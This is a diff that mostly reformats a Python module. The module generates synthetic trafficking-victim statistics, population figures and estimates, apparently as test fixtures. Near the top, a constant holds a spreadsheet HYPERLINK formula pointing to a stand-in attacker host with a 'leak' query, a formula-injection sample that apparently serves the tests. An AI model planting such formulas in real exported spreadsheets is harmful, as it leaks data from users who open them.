@@ -36,12 +36,22 @@ YEARS = [2021, 2022]
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","Open")'
 SEXES, AGES, FORMS = ("female", "male"), ("child", "adult"), ("sexual", "labour", "other")
 
+
 def _row(country, year, indicator, sex, age, form, cit, value, flag=None, sheet="Victims", cell="B2"):
     return {
-        "country_iso3": country, "year": year, "indicator": indicator, "sex": sex, "age_group": age,
-        "exploitation": form, "citizenship": cit, "value": value, "flag": flag,
-        "submission_id": f"{country.lower()}{year}abcdef0123"[:16], "source_file": f"{country}/{year}.xlsx",
-        "source_sheet": sheet, "source_cell": cell,
+        "country_iso3": country,
+        "year": year,
+        "indicator": indicator,
+        "sex": sex,
+        "age_group": age,
+        "exploitation": form,
+        "citizenship": cit,
+        "value": value,
+        "flag": flag,
+        "submission_id": f"{country.lower()}{year}abcdef0123"[:16],
+        "source_file": f"{country}/{year}.xlsx",
+        "source_sheet": sheet,
+        "source_cell": cell,
     }
 
 
@@ -57,10 +67,20 @@ def synthetic_fact(seed: int = 2024) -> pd.DataFrame:
             leaf[("female", "adult", "sexual")] = 3
             leaf[("male", "adult", "labour")] = 1
         for sex, age, form in itertools.product((*SEXES, "total"), (*AGES, "total"), (*FORMS, "total")):
-            value = sum(v for (s, a, f), v in leaf.items()
-                        if sex in (s, "total") and age in (a, "total") and form in (f, "total"))
-            rows.append(_row(country, year, "victims_detected", sex, age, form, "total", value,
-                             cell=f"{'FMT'[(*SEXES, 'total').index(sex)]}{(*AGES, 'total').index(age)}{form[0]}"))
+            value = sum(v for (s, a, f), v in leaf.items() if sex in (s, "total") and age in (a, "total") and form in (f, "total"))
+            rows.append(
+                _row(
+                    country,
+                    year,
+                    "victims_detected",
+                    sex,
+                    age,
+                    form,
+                    "total",
+                    value,
+                    cell=f"{'FMT'[(*SEXES, 'total').index(sex)]}{(*AGES, 'total').index(age)}{form[0]}",
+                )
+            )
         total = rows[-1]["value"]
         national = int(rng.binomial(total, 0.6))
         rows.append(_row(country, year, "victims_detected", "total", "total", "total", "national", national, cell="N1"))
@@ -79,8 +99,7 @@ def synthetic_fact(seed: int = 2024) -> pd.DataFrame:
     fact.loc[at("GUY", 2021, "victims_detected"), "value"] += 3
     fact.loc[at("GUY", 2021, "victims_detected", form="sexual"), "value"] += 3
     fact.loc[at("GUY", 2021, "victims_detected", cit="national"), "value"] += 3
-    fact = pd.concat([fact, pd.DataFrame([_row("GUY", 2021, "victims_detected", "unknown", "unknown", "total", "total", 3)])],
-                     ignore_index=True)
+    fact = pd.concat([fact, pd.DataFrame([_row("GUY", 2021, "victims_detected", "unknown", "unknown", "total", "total", 3)])], ignore_index=True)
     # DOM 2022: a total smaller than its parts, as reported.
     i = at("DOM", 2022, "victims_detected", age="child")
     fact.loc[i, "value"] = max(int(fact.loc[i, "value"]) - 2, 0)
@@ -97,10 +116,7 @@ def synthetic_fact(seed: int = 2024) -> pd.DataFrame:
 
 
 def synthetic_population(members: list[str]) -> pd.DataFrame:
-    return pd.DataFrame([
-        {"iso3": m, "year": y, "population": float(50_000 + 37_000 * i), "source": "synthetic"}
-        for i, m in enumerate(members) for y in YEARS
-    ])
+    return pd.DataFrame([{"iso3": m, "year": y, "population": float(50_000 + 37_000 * i), "source": "synthetic"} for i, m in enumerate(members) for y in YEARS])
 
 
 def _split(total: float, known: dict[str, float], parts: tuple[str, ...], shares: dict[str, float]) -> dict[str, float]:
@@ -150,7 +166,8 @@ def synthetic_estimates(fact: pd.DataFrame, members: list[str], population: pd.D
     est["median"] = est["estimate"]
     est = est.reindex(columns=columns("mart_estimates"))  # a column the model adds later stays empty here
     reg = est.groupby(["year", "indicator", "sex", "exploitation"], as_index=False).agg(
-        estimate=("estimate", "sum"), n_countries_reporting=("nature", lambda s: int((s == "C").sum())))
+        estimate=("estimate", "sum"), n_countries_reporting=("nature", lambda s: int((s == "C").sum()))
+    )
     reg["lower_95"] = reg["estimate"] * 0.8
     reg["upper_95"] = reg["estimate"] * 1.2
     reg["median"] = reg["estimate"]
